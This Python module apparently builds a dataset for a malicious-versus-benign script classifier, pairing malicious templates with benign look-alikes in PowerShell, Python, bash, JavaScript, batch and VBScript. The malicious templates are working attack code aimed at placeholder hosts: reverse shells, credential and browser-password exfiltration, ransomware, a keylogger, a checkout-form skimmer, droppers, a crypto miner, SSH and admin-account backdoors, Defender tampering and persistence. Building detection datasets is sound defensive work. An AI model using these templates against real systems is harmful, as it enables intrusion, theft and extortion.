"""Script families for data/tiny: project-written templates, each drawn into several variants that share a `group`.

A family is one behaviour written once (a template) and varied in its surface: identifier names, hosts, paths, app
names, numbers, optional lines and phrasings, and neutral comments. The split keeps a family inside one split (group
key), so the test split holds behaviours the model never saw in training and a model has to generalise, not recall.

Why the labels cannot be told apart by a shallow cue:
- benign and malicious templates come in pairs over the same APIs (download-and-verify vs download-and-execute,
  an app's own registry settings vs a hidden Run-key payload, a health-check socket vs a reverse shell, ...);
- every surface choice (names, hosts, including the documentation IP ranges, comments, app names) is drawn from the
  same pools for both labels, with the same probabilities;
- templates of a language have similar lengths (build_tiny.py prints and bounds the per-language means).

Defanged like the rest of data/tiny: only example.com/.net/.org and the documentation ranges 192.0.2.0/24,
198.51.100.0/24 and 203.0.113.0/24 are named; nothing here is ever run, this module only writes text.

Template syntax: @name@ is a drawn value (v1..v4 identifiers, proto, host, host2, app, port, n, m, dir, file, user,
key);
[[a||b||c]] is one of the phrasings (an empty one drops the line); a line `??` is a neutral comment, kept with
probability COMMENT_P.
"""
from __future__ import annotations

import itertools
import random
import re

PS, JS, PY, SH, BAT, VBS = "powershell", "javascript", "python", "bash", "batch", "vbscript"
M, B = "malicious", "benign"
COMMENT_P = 0.4  # per `??` line, the same for both labels
EXTRA_COMMENT_P = 0.25  # a neutral comment at the top, the same for both labels

WORDS = ["data", "item", "conf", "buf", "target", "entry", "node", "res", "out", "blob", "info", "ctx", "stream",
         "handle", "src", "dest", "job", "task", "req", "resp", "tmp", "list", "val", "key", "part", "unit", "line",
         "doc", "pkg", "state", "cache", "store", "cfg", "result", "body", "meta", "opts", "base", "root", "name"]
HOSTS = ["cdn.example.net", "update.example.com", "files.example.org", "api.example.com", "mirror.example.net",
         "intranet.example.org", "static.example.com", "dl.example.net", "svc.example.org", "portal.example.com"]
IP_RANGES = ["192.0.2", "198.51.100", "203.0.113"]
APPS = ["HelperSvc", "SyncAgent", "UpdateCore", "DataBridge", "PrintMgr", "TeleCheck", "AssetTool", "NetMon",
        "CloudLink", "DeskAssist", "LogShip", "MediaCache", "BackupPro", "TimeKeep", "EdgeRelay", "OfficeTools"]
DIRS = ["reports", "exports", "work", "archive", "share", "incoming", "staging", "records", "assets", "spool"]
FILES = ["report", "update", "setup", "agent", "client", "helper", "service", "tool", "bundle", "runner"]
USERS = ["svc_backup", "deploy", "opsadmin", "jdoe", "build", "helpdesk", "sysop", "tech1"]
COMMENTS = ["step {n}", "settings", "main part", "TODO: tidy this up", "run it", "helpers", "config below",
            "maintained by IT", "do not edit by hand", "v{n}.{m}", "see ticket {n}{m}", "added {n}/{m}",
            "quick fix", "paths", "done", "works on win10 and later", "keep in sync with the wiki"]
COMMENT_PREFIX = {PS: "# ", PY: "# ", SH: "# ", JS: "// ", BAT: "REM ", VBS: "' "}
CONTINUED = ("_", "\\", "^", "`", ",", "(", "{", "[")  # no comment line may follow a line ending in these

TEMPLATES: list[tuple[str, str, str, str]] = []  # (family slug, lang, label, template)


def family(slug: str, lang: str, label: str, text: str) -> None:
    TEMPLATES.append((slug, lang, label, text.strip("\n")))


# ================================================================================================== PowerShell
family("ps-cradle", PS, M, r'''
??
$@v1@ = New-Object System.Net.WebClient
[[$@v1@.Headers.Add('User-Agent', 'Mozilla/5.0')||$@v1@.UseDefaultCredentials = $true||]]
$@v2@ = $@v1@.DownloadString('@proto@://@host@/@file@.ps1')
??
[[Invoke-Expression $@v2@||IEX $@v2@||$@v2@ | Invoke-Expression]]
[[Write-Output 'ok'||]]
''')
family("ps-download-verify", PS, B, r'''
??
$@v1@ = Join-Path $env:TEMP '@file@.msi'
Invoke-WebRequest -Uri '@proto@://@host@/@app@/@file@.msi' -OutFile $@v1@ [[-UseBasicParsing||]]
$@v2@ = (Get-FileHash $@v1@ -Algorithm SHA256).Hash
??
if ($@v2@ -ne '@key@') { throw "checksum mismatch for $@v1@" }
[[Write-Output "verified $@v1@"||Write-Host 'download verified']]
''')
family("ps-runkey", PS, M, r'''
$@v1@ = Join-Path $env:APPDATA '@app@\@file@.exe'
??
Invoke-WebRequest '@proto@://@host@/@n@.bin' -OutFile $@v1@
(Get-Item $@v1@ -Force).Attributes = 'Hidden'
Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name '@app@' -Value $@v1@
[[Start-Process $@v1@ -WindowStyle Hidden||& $@v1@]]
''')
family("ps-app-settings", PS, B, r'''
$@v1@ = 'HKCU:\Software\@app@\Settings'
??
if (-not (Test-Path $@v1@)) { New-Item -Path $@v1@ -Force | Out-Null }
Set-ItemProperty -Path $@v1@ -Name 'Server' -Value '@host@'
Set-ItemProperty -Path $@v1@ -Name 'Port' -Value @port@ [[-Type DWord||]]
[[Write-Output "settings written to $@v1@"||Get-ItemProperty $@v1@]]
''')
family("ps-steal-upload", PS, M, r'''
$@v1@ = "$env:LOCALAPPDATA\Google\Chrome\User Data\Default\Login Data"
$@v2@ = Join-Path $env:TEMP '@n@.db'
Copy-Item $@v1@ $@v2@ -Force
??
$@v3@ = [Convert]::ToBase64String([IO.File]::ReadAllBytes($@v2@))
Invoke-RestMethod -Uri '@proto@://@host@/@dir@' -Method Post -Body @{ h = $env:COMPUTERNAME; d = $@v3@ }
[[Remove-Item $@v2@ -Force||]]
''')
family("ps-disk-report", PS, B, r'''
$@v1@ = Get-CimInstance Win32_LogicalDisk -Filter 'DriveType=3'
??
$@v2@ = $@v1@ | ForEach-Object { @{ drive = $_.DeviceID; freeGB = [math]::Round($_.FreeSpace / 1GB, 1) } }
$@v3@ = @{ host = $env:COMPUTERNAME; disks = $@v2@ } | ConvertTo-Json -Depth 3
Invoke-RestMethod -Uri '@proto@://@host@/@dir@/disk' -Method Post -Body $@v3@ -ContentType 'application/json'
[[Write-Output 'report sent'||]]
''')
family("ps-defender-tamper", PS, M, r'''
??
Set-MpPreference -DisableRealtimeMonitoring $true [[-Force||]]
Add-MpPreference -ExclusionPath "$env:APPDATA\@app@"
[[Set-MpPreference -DisableIOAVProtection $true||Set-MpPreference -MAPSReporting 0]]
$@v1@ = Get-MpComputerStatus
??
[[Write-Output $@v1@.RealTimeProtectionEnabled||]]
''')
family("ps-defender-status", PS, B, r'''
??
$@v1@ = Get-MpComputerStatus
$@v2@ = [[$@v1@.AntivirusSignatureAge||$@v1@.QuickScanAge]]
if ($@v2@ -gt @n@) { Update-MpSignature [[-UpdateSource MicrosoftUpdateServer||]] }
??
"$env:COMPUTERNAME,$($@v1@.RealTimeProtectionEnabled),$@v2@" | Add-Content "\\@host@\@dir@\defender.csv"
''')

# ================================================================================================== Python
family("py-revshell", PY, M, r'''
import socket[[, os||]]
import subprocess
??
@v1@ = socket.socket()
@v1@.connect(("@host@", @port@))
while True:
    @v2@ = @v1@.recv(@n@24).decode()
    @v3@ = subprocess.run(@v2@, shell=True, capture_output=True)
    @v1@.send(@v3@.stdout + @v3@.stderr)
''')
family("py-health-check", PY, B, r'''
import socket[[, time||]]
import logging
??
@v1@ = socket.create_connection(("@host@", @port@), timeout=@n@)
@v1@.sendall(b"PING\n")
@v2@ = @v1@.recv(@n@24).decode().strip()
@v1@.close()
[[logging.info("health %s", @v2@)||print("health:", @v2@)]]
''')
family("py-encrypt-ransom", PY, M, r'''
import os
from cryptography.fernet import Fernet
??
@v1@ = Fernet(Fernet.generate_key())
for @v2@, _, @v3@ in os.walk(os.path.expanduser("~/[[Documents||Desktop||Pictures]]")):
    for @v4@ in @v3@:
        p = os.path.join(@v2@, @v4@)
        open(p + ".locked", "wb").write(@v1@.encrypt(open(p, "rb").read()))
        os.remove(p)
open(os.path.expanduser("~/README_@n@.txt"), "w").write("send [[0.1||0.5]] BTC to recover files")
''')
family("py-log-rotate", PY, B, r'''
import os
import gzip
??
@v1@ = [[7||14||30]] * 86400
for @v2@, _, @v3@ in os.walk("/var/log/@app@"):
    for @v4@ in @v3@:
        p = os.path.join(@v2@, @v4@)
        if p.endswith(".log") and os.path.getmtime(p) < __import__("time").time() - @v1@:
            gzip.open(p + ".gz", "wb").write(open(p, "rb").read())
            os.remove(p)
print("rotated logs for @app@")
''')
family("py-cred-exfil", PY, M, r'''
import os
import requests
??
@v1@ = {}
for @v2@ in ["~/.aws/credentials", "~/.ssh/id_rsa", "~/.netrc"[[, "~/.docker/config.json"||]]]:
    p = os.path.expanduser(@v2@)
    if os.path.exists(p):
        @v1@[@v2@] = open(p).read()
requests.post("@proto@://@host@/@dir@", json={"h": os.uname().nodename, "f": @v1@}[[, timeout=@n@||]])
''')
family("py-metrics-push", PY, B, r'''
import os
import requests
??
@v1@ = {}
for @v2@ in ["/proc/loadavg", "/proc/uptime"[[, "/proc/meminfo"||]]]:
    if os.path.exists(@v2@):
        @v1@[os.path.basename(@v2@)] = open(@v2@).read().split()[0]
@v1@["host"] = os.uname().nodename
requests.post("@proto@://@host@/@dir@/metrics", json=@v1@[[, timeout=@n@||]])
''')
family("py-keylogger", PY, M, r'''
from pynput import keyboard
import requests
??
@v1@ = []
def @v2@(k):
    @v1@.append(str(k))
    if len(@v1@) >= @n@0:
        requests.post("@proto@://@host@/@dir@", data="".join(@v1@))
        @v1@.clear()
keyboard.Listener(on_press=@v2@).[[join()||start(); input()]]
''')
family("py-hotkey-launcher", PY, B, r'''
from pynput import keyboard
import subprocess
??
@v1@ = {"<ctrl>+<alt>+t": ["x-terminal-emulator"], "<ctrl>+<alt>+n": ["@file@", "--new"]}
def @v2@(cmd):
    return lambda: subprocess.Popen(cmd)
@v3@ = {k: @v2@(v) for k, v in @v1@.items()}
with keyboard.GlobalHotKeys(@v3@) as h:
    h.join()
''')

# ================================================================================================== bash
family("sh-curl-bash-cron", SH, M, r'''
#!/bin/bash
??
@V1@="@proto@://@host@/@file@.sh"
curl -fsSL "$@V1@" | bash
(crontab -l 2>/dev/null; echo "*/@n@ * * * * curl -fsSL $@V1@ | bash") | crontab -
[[history -c||unset HISTFILE||]]
''')
family("sh-install-verify", SH, B, r'''
#!/bin/bash
??
@V1@="@proto@://@host@/@app@/@file@-@n@.@m@.tar.gz"
curl -fsSLo /tmp/@file@.tgz "$@V1@"
echo "@key@  /tmp/@file@.tgz" | sha256sum -c -
tar -xzf /tmp/@file@.tgz -C /opt[[ && rm /tmp/@file@.tgz||]]
''')
family("sh-ssh-backdoor", SH, M, r'''
#!/bin/sh
??
mkdir -p /root/.ssh
echo "ssh-ed25519 AAAAC3Nza@key@ @user@@@host@" >> /root/.ssh/authorized_keys
chmod 600 /root/.ssh/authorized_keys
[[sed -i 's/^#\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config||]]
[[touch -r /etc/hostname /root/.ssh/authorized_keys||]]
''')
family("sh-user-provision", SH, B, r'''
#!/bin/sh
??
id @user@ >/dev/null 2>&1 || useradd -m -s /bin/bash @user@
install -d -m 700 -o @user@ /home/@user@/.ssh
echo "ssh-ed25519 AAAAC3Nza@key@ @user@@@host@" > /home/@user@/.ssh/authorized_keys
chown @user@ /home/@user@/.ssh/authorized_keys[[ && chmod 600 /home/@user@/.ssh/authorized_keys||]]
''')
family("sh-miner", SH, M, r'''
#!/bin/bash
??
pkill -f [[kdevtmpfsi||xmrig||kinsing]] 2>/dev/null
@V1@=/tmp/.@n@
mkdir -p $@V1@ && cd $@V1@
wget -q @proto@://@host@/@file@ -O @file@ && chmod +x @file@
nohup ./@file@ -o @host2@:@port@ -u 4@key@ -k >/dev/null 2>&1 &
''')
family("sh-worker-start", SH, B, r'''
#!/bin/bash
??
@V1@=/var/run/@app@
mkdir -p $@V1@ && cd /opt/@app@
[ -f $@V1@/worker.pid ] && kill "$(cat $@V1@/worker.pid)" 2>/dev/null
./bin/worker --queue @host2@:@port@ --threads @n@ >>/var/log/@app@.log 2>&1 &
echo $! > $@V1@/worker.pid
''')
family("sh-shadow-exfil", SH, M, r'''
#!/bin/bash
??
@V1@=/tmp/.@n@.tgz
tar -czf $@V1@ /etc/passwd /etc/shadow [[/root/.bash_history||/home/*/.ssh]] 2>/dev/null
curl -s -F "f=@$@V1@" @proto@://@host@/@dir@
rm -f $@V1@
''')
family("sh-config-backup", SH, B, r'''
#!/bin/bash
??
@V1@=/srv/backup/@app@-$(date +%F).tgz
tar -czf $@V1@ /etc/nginx /etc/@app@ [[/etc/letsencrypt||/var/www/conf]] 2>/dev/null
scp -q $@V1@ @user@@@host@:/@dir@/
find /srv/backup -name '*.tgz' -mtime +@n@ -delete
''')

# ================================================================================================== JavaScript
family("js-env-stealer", JS, M, r'''
const https = require("https");
const os = require("os");
??
const @v1@ = JSON.stringify({ h: os.hostname(), e: process.env[[, u: os.userInfo().username||]] });
const @v2@ = https.request({ host: "@host@", path: "/@dir@", method: "POST" });
@v2@.on("error", () => {});
@v2@.end(@v1@);
''')
family("js-postinstall-check", JS, B, r'''
const os = require("os");
const fs = require("fs");
??
const @v1@ = process.versions.node.split(".").map(Number);
if (@v1@[0] < @n@) { console.error("@app@ needs Node @n@ or later"); process.exit(1); }
const @v2@ = { platform: os.platform(), arch: os.arch() };
fs.writeFileSync("build/@file@.json", JSON.stringify(@v2@[[, null, 2||]]));
''')
family("js-skimmer", JS, M, r'''
??
document.querySelector("form[[#checkout||.payment]]").addEventListener("submit", function () {
  const @v1@ = {};
  for (const @v2@ of this.querySelectorAll("input")) { @v1@[@v2@.name] = @v2@.value; }
  const @v3@ = btoa(JSON.stringify(@v1@));
  new Image().src = "@proto@://@host@/@file@.gif?d=" + @v3@;
});
''')
family("js-form-submit", JS, B, r'''
??
document.querySelector("form[[#signup||.contact]]").addEventListener("submit", async function (e) {
  e.preventDefault();
  const @v1@ = {};
  for (const @v2@ of this.querySelectorAll("input")) { @v1@[@v2@.name] = @v2@.value.trim(); }
  const @v3@ = await fetch("/api/@dir@", { method: "POST", body: JSON.stringify(@v1@) });
  this.querySelector(".status").textContent = @v3@.ok ? "Thanks!" : "Please try again";
});
''')
family("js-wsh-dropper", JS, M, r'''
var @v1@ = new ActiveXObject("MSXML2.XMLHTTP");
@v1@.open("GET", "@proto@://@host@/@file@.exe", false);
@v1@.send();
??
var @v2@ = new ActiveXObject("ADODB.Stream");
@v2@.Type = 1; @v2@.Open(); @v2@.Write(@v1@.responseBody);
var @v3@ = WScript.CreateObject("WScript.Shell").ExpandEnvironmentStrings("%TEMP%") + "\\@file@.exe";
@v2@.SaveToFile(@v3@, 2); @v2@.Close();
WScript.CreateObject("WScript.Shell").Run(@v3@, 0, false);
''')
family("js-wsh-report-fetch", JS, B, r'''
var @v1@ = new ActiveXObject("MSXML2.XMLHTTP");
@v1@.open("GET", "@proto@://@host@/@dir@/@file@.csv", false);
@v1@.send();
??
var @v2@ = new ActiveXObject("ADODB.Stream");
@v2@.Type = 1; @v2@.Open(); @v2@.Write(@v1@.responseBody);
var @v3@ = "\\\\fs01\\@dir@\\@file@-" + new Date().getDate() + ".csv";
@v2@.SaveToFile(@v3@, 2); @v2@.Close();
WScript.Echo("saved " + @v3@);
''')
family("js-charcode-eval", JS, M, r'''
??
var @v1@ = [@codes@];
var @v2@ = "";
for (var i = 0; i < @v1@.length; i++) { @v2@ += String.fromCharCode(@v1@[i] ^ @n@); }
[[eval(@v2@)||new Function(@v2@)()||window["ev" + "al"](@v2@)]];
''')
family("js-b64-config", JS, B, r'''
??
var @v1@ = "@b64conf@";
var @v2@ = JSON.parse(atob(@v1@));
for (var k in @v2@) { if (@v2@.hasOwnProperty(k)) { window.APP_CONFIG[k] = @v2@[k]; } }
[[console.log("config loaded", Object.keys(@v2@).length)||]];
''')

# ================================================================================================== batch
family("bat-wipe-shadows", BAT, M, r'''
@echo off
??
vssadmin delete shadows /all /quiet
[[wmic shadowcopy delete||wbadmin delete catalog -quiet]]
bcdedit /set {default} recoveryenabled No
set @V1@=%USERPROFILE%\Desktop\README_@n@.txt
echo Your files are encrypted. Contact @user@@@host@ > "%@V1@%"
''')
family("bat-backup-job", BAT, B, r'''
@echo off
??
set @V1@=\\@host@\@dir@\%COMPUTERNAME%
robocopy "%USERPROFILE%\Documents" "%@V1@%" /MIR /R:@n@ /W:5 /NP [[/MT:8||]]
if errorlevel 8 echo backup failed >> "%TEMP%\@app@.log"
[[vssadmin list shadows > "%TEMP%\shadows.txt"||wbadmin get versions > "%TEMP%\versions.txt"]]
''')
family("bat-certutil-drop", BAT, M, r'''
@echo off
??
set @V1@=%TEMP%\@file@.exe
certutil -urlcache -split -f @proto@://@host@/@n@.bin "%@V1@%" >nul
attrib +h "%@V1@%"
start "" /b "%@V1@%"
[[del "%~f0"||exit /b]]
''')
family("bat-msi-install", BAT, B, r'''
@echo off
??
set @V1@=%TEMP%\@file@.msi
curl -fsSL -o "%@V1@%" @proto@://@host@/@app@/@file@.msi
certutil -hashfile "%@V1@%" SHA256 | find /i "@key@" >nul || exit /b 1
msiexec /i "%@V1@%" /qn /l*v "%TEMP%\@app@-install.log"
[[del "%@V1@%"||]]
''')
family("bat-runkey-hidden", BAT, M, r'''
@echo off
??
set @V1@=%APPDATA%\@app@\@file@.exe
copy /y "%~dp0@file@.exe" "%@V1@%" >nul
attrib +h +s "%@V1@%"
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v @app@ /t REG_SZ /d "%@V1@%" /f >nul
[[start "" "%@V1@%"||]]
''')
family("bat-app-setup", BAT, B, r'''
@echo off
??
set @V1@=%LOCALAPPDATA%\@app@
if not exist "%@V1@%" mkdir "%@V1@%"
reg add HKCU\Software\@app@ /v Server /t REG_SZ /d @host@ /f >nul
reg add HKCU\Software\@app@ /v Port /t REG_DWORD /d @port@ /f >nul
[[echo settings saved||]]
''')
family("bat-add-admin", BAT, M, r'''
@echo off
??
net user @user@ P@key@! /add /y
net localgroup administrators @user@ /add
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
[[netsh advfirewall firewall set rule group="remote desktop" new enable=Yes||]]
''')
family("bat-map-drives", BAT, B, r'''
@echo off
??
net use @DRIVE@: /delete /y >nul 2>&1
net use @DRIVE@: \\@host@\@dir@ /persistent:yes
net use P: \\@host@\printers /persistent:no
[[echo drives mapped for %USERNAME%||]]
''')

# ================================================================================================== VBScript
family("vbs-dropper", VBS, M, r'''
Set @v1@ = CreateObject("MSXML2.XMLHTTP")
@v1@.Open "GET", "@proto@://@host@/@file@.exe", False
@v1@.Send
??
Set @v2@ = CreateObject("ADODB.Stream")
@v2@.Type = 1 : @v2@.Open : @v2@.Write @v1@.ResponseBody
@v3@ = CreateObject("WScript.Shell").ExpandEnvironmentStrings("%TEMP%") & "\@file@.exe"
@v2@.SaveToFile @v3@, 2
CreateObject("WScript.Shell").Run @v3@, 0, False
''')
family("vbs-status-fetch", VBS, B, r'''
Set @v1@ = CreateObject("MSXML2.XMLHTTP")
@v1@.Open "GET", "@proto@://@host@/@dir@/status", False
@v1@.Send
??
Set @v2@ = CreateObject("Scripting.FileSystemObject")
Set @v3@ = @v2@.OpenTextFile("C:\ProgramData\@app@\status.log", 8, True)
@v3@.WriteLine Now & " " & @v1@.Status & " " & Left(@v1@.ResponseText, @n@0)
@v3@.Close
''')
family("vbs-wmi-remote", VBS, M, r'''
@v1@ = "@HOSTNAME@"
Set @v2@ = GetObject("winmgmts:\\" & @v1@ & "\root\cimv2")
??
Set @v3@ = @v2@.Get("Win32_Process")
@v3@.Create "cmd /c powershell -w hidden -c iwr @proto@://@host@/@n@ -useb | iex", Null, Null, pid
[[WScript.Echo "started " & pid||]]
''')
family("vbs-wmi-inventory", VBS, B, r'''
@v1@ = "@HOSTNAME@"
Set @v2@ = GetObject("winmgmts:\\" & @v1@ & "\root\cimv2")
??
For Each @v3@ In @v2@.ExecQuery("SELECT Caption, Version FROM Win32_OperatingSystem")
    WScript.Echo @v1@ & "," & @v3@.Caption & "," & @v3@.Version
Next
''')
family("vbs-startup-copy", VBS, M, r'''
Set @v1@ = CreateObject("Scripting.FileSystemObject")
Set @v2@ = CreateObject("WScript.Shell")
??
@v3@ = @v2@.SpecialFolders("Startup") & "\@file@.vbs"
@v1@.CopyFile WScript.ScriptFullName, @v3@, True
@v1@.GetFile(@v3@).Attributes = 2
@v2@.RegWrite "HKCU\Software\Microsoft\Windows\CurrentVersion\Run\@app@", "wscript.exe """ & @v3@ & """"
''')
family("vbs-desktop-link", VBS, B, r'''
Set @v1@ = CreateObject("Scripting.FileSystemObject")
Set @v2@ = CreateObject("WScript.Shell")
??
@v3@ = @v2@.SpecialFolders("Desktop") & "\@app@.lnk"
Set lnk = @v2@.CreateShortcut(@v3@)
lnk.TargetPath = "C:\Program Files\@app@\@file@.exe"
lnk.WorkingDirectory = "C:\Program Files\@app@"
lnk.Save
''')
family("vbs-doc-exfil", VBS, M, r'''
Set @v1@ = CreateObject("Scripting.FileSystemObject")
@v2@ = ""
??
For Each f In @v1@.GetFolder(CreateObject("WScript.Shell").SpecialFolders("MyDocuments")).Files
    If LCase(@v1@.GetExtensionName(f.Name)) = "[[docx||pdf||xlsx]]" Then @v2@ = @v2@ & f.Path & vbLf
Next
Set @v3@ = CreateObject("MSXML2.XMLHTTP")
@v3@.Open "POST", "@proto@://@host@/@dir@", False
@v3@.Send @v2@
''')
family("vbs-temp-cleanup", VBS, B, r'''
Set @v1@ = CreateObject("Scripting.FileSystemObject")
@v2@ = 0
??
For Each f In @v1@.GetFolder("C:\ProgramData\@app@\@dir@").Files
    If DateDiff("d", f.DateLastModified, Now) > @n@ Then
        f.Delete True
        @v2@ = @v2@ + 1
    End If
Next
[[WScript.Echo @v2@ & " files removed"||]]
''')


# ================================================================================================== drawing
def _name(r: random.Random, lang: str, upper: bool = False) -> str:
    a, b = r.sample(WORDS, 2)
    if upper or lang in (BAT,):
        return f"{a}_{b}".upper()
    if lang in (PY, SH):
        return f"{a}_{b}"
    return a + b.capitalize()


def _host(r: random.Random) -> str:
    if r.random() < 0.4:
        return f"{r.choice(IP_RANGES)}.{r.randint(2, 250)}"
    return r.choice(HOSTS)


def _values(r: random.Random, lang: str) -> dict[str, str]:
    n, m = r.randint(2, 9), r.randint(1, 9)
    values = {f"v{i}": _name(r, lang) for i in range(1, 5)}
    values |= {f"V{i}": _name(r, lang, upper=True) for i in range(1, 5)}
    values |= {"host": _host(r), "host2": _host(r), "app": r.choice(APPS), "port": str(r.choice(
        [443, 8080, 8443, 4444, 3333, 9000, 5000, 1337, 8000, 7070])), "n": str(n), "m": str(m),
        "proto": r.choice(["http", "https"]), "dir": r.choice(DIRS), "file": r.choice(FILES), "user": r.choice(USERS),
        "key": "".join(r.choice("0123456789abcdef") for _ in range(16)), "DRIVE": r.choice("STUVWXY"),
        "HOSTNAME": f"{r.choice(['WS', 'PC', 'SRV', 'LT'])}{r.randint(100, 999)}"}
    values["codes"] = ", ".join(str(ord(c) ^ n) for c in f"document.location='http://{values['host']}/'+document.cookie")
    values["b64conf"] = __import__("base64").b64encode(
        f'{{"api":"https://{values["host"]}/{values["dir"]}","retries":{n}}}'.encode()).decode()
    return values


HEADERS = ("#!", "@echo off", "Option Explicit")  # lines that open a script: kept once, at the top
STRICT_P = 0.3  # bash scripts of both labels open with `set -e` with this probability


def plans() -> list[tuple[str, str, str, list[str]]]:
    """The families: (group slug, lang, label, templates). Each template alone, and each pair of templates of one
    language and label joined in one script (a dropper that also persists, a setup script that also maps drives):
    a test family is a combination, and a surface, that training never saw."""
    by_kind: dict[tuple[str, str], list[tuple[str, str]]] = {}
    for slug, lang, label, template in TEMPLATES:
        by_kind.setdefault((lang, label), []).append((slug, template))
    out = []
    for (lang, label), members in by_kind.items():
        out += [(slug, lang, label, [template]) for slug, template in members]
        for (a, ta), (b, tb) in itertools.combinations(members, 2):
            out.append((f"{a}+{b.split('-', 1)[1]}", lang, label, [ta, tb]))
    return out


def render_family(templates: list[str], lang: str, r: random.Random) -> str:
    """One drawing of a family: its templates rendered (in a drawn order), one header at the top."""
    parts = [render(t, lang, r).splitlines() for t in templates]
    r.shuffle(parts)
    header = next((h for part in parts if (h := [line for line in part if line.startswith(HEADERS)])), [])
    if lang == SH and r.random() < STRICT_P:
        header.append("set -e")
    body = ["\n".join(line for line in part if not line.startswith(HEADERS)) for part in parts]
    return "\n".join(header + ["\n\n".join(body)]) + "\n"


def render(template: str, lang: str, r: random.Random) -> str:
    values = _values(r, lang)
    text = re.sub(r"\[\[(.*?)\]\]", lambda mt: r.choice(mt.group(1).split("||")), template)
    text = re.sub(r"@(\w+)@", lambda mt: values.get(mt.group(1), mt.group(0)), text)
    lines, prefix = [], COMMENT_PREFIX[lang]
    for line in text.split("\n"):
        if line.strip() == "??":
            if r.random() < COMMENT_P and not (lines and lines[-1].rstrip().endswith(CONTINUED)):
                lines.append(prefix + r.choice(COMMENTS).format(n=r.randint(1, 99), m=r.randint(1, 12)))
        elif line.strip():
            lines.append(line)
    if r.random() < EXTRA_COMMENT_P:
        at = 1 if lines and (lines[0].startswith(("#!", "@echo")) or lines[0] == "Option Explicit") else 0
        lines.insert(at, prefix + r.choice(COMMENTS).format(n=r.randint(1, 99), m=r.randint(1, 12)))
    return "\n".join(lines) + "\n"
